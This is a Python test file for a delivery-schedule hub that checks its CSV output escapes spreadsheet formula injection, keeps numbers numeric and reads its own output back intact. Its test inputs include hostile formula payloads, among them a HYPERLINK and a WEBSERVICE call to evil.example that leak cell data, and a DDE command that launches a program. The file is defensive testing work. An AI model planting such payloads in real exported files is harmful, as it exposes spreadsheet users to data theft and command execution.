"""Trust finding 12, formula injection: CSV the hub writes never runs as a spreadsheet formula.

A cell starting with =, +, -, @, tab or CR is written with a leading apostrophe (text in
every spreadsheet); quantities and plain numbers stay numbers; the hub reads its own
neutralised CSV back to the same documents.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from hub.dispatch.rendering import render as render_delivery
from hub.formats.canonical import DeliverySchedule, ScheduleLine, ScheduleQuantity, to_json
from hub.formats.tabular import CsvCodec, neutralise, restore
from tests.delfor_builder import delfor, message

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _schedule(description: str, quantity: str = "5") -> DeliverySchedule:
    return DeliverySchedule(
        number="CO-1",
        lines=[ScheduleLine(buyer_part="A-100", description=description, unit="C62", schedule=[ScheduleQuantity(date="2026-12-01", quantity=Decimal(quantity))])],
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_injection_in_a_description_is_written_as_text(attack):
    rows = _cells(CsvCodec().render([_schedule(attack)]))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + attack in cells
    assert not any(cell and cell[0] in "=+-@\t\r" for cell in cells), cells


def test_formula_injection_in_a_header_is_written_as_text():
    from hub.formats.tabular import DEFAULT_SCHEDULE_MAPPING, ColumnMapping, render_csv

    columns = dict(DEFAULT_SCHEDULE_MAPPING.columns)
    columns["line.description"] = "=IMPORTXML(A1)"
    mapping = ColumnMapping("delivery_schedule", columns, name="evil")
    header = _cells(render_csv([_schedule("ok")], mapping))[0]
    assert "'=IMPORTXML(A1)" in header


def test_formula_injection_negative_quantity_stays_a_number():
    rows = _cells(CsvCodec().render([_schedule("Bolt M8", quantity="-5")]))
    header, row = rows[0], rows[1]
    assert row[header.index("quantity")] == "-5"


@pytest.mark.parametrize("text", ["-5", "+12,5", "-0.25", "Bolt M8", "", "'quoted", "a=b"])
def test_plain_numbers_and_ordinary_text_are_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", [*ATTACKS, "'=1+1", "''-x", "-", "="])
def test_neutralised_text_reads_back_as_it_was(text):
    assert restore(neutralise(text)) == text
    assert neutralise(text) != text


@pytest.mark.parametrize("attack", ATTACKS[:4] + ["'=already quoted"])
def test_formula_injection_csv_reads_back_to_the_same_document(attack):
    codec = CsvCodec()
    result = codec.parse(codec.render([_schedule(attack)]))
    assert not result.all_errors, [str(e) for e in result.all_errors]
    assert result.documents[0].lines[0].description == attack.strip()


def test_formula_injection_through_outbound_csv_to_a_supplier():
    payload = json.dumps(to_json(_schedule("=WEBSERVICE(\"http://evil.example\")")))
    body, content_type, _ext = render_delivery(payload, "csv", receiver_id="SUP00001", control_ref="1")
    assert content_type == "text/csv"
    cells = [cell for row in _cells(body)[1:] for cell in row]
    assert "'=WEBSERVICE(\"http://evil.example\")" in cells


def test_formula_injection_through_translate_to_csv(tmp_path):
    edi = tmp_path / "delfor.edi"
    edi.write_bytes(delfor([message("1", "CO-9", parts=(("@SUM(A1)", (("-5", "1", "20261201"),)),))]))
    done = subprocess.run(
        [sys.executable, "manage.py", "translate", str(edi), "--to", "csv"], cwd=ROOT, capture_output=True, timeout=120
    )
    assert done.returncode == 0, done.stderr.decode()
    rows = _cells(done.stdout)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(A1)" in cells
    assert "@SUM(A1)" not in cells
    assert rows[1][rows[0].index("quantity")] == "-5"
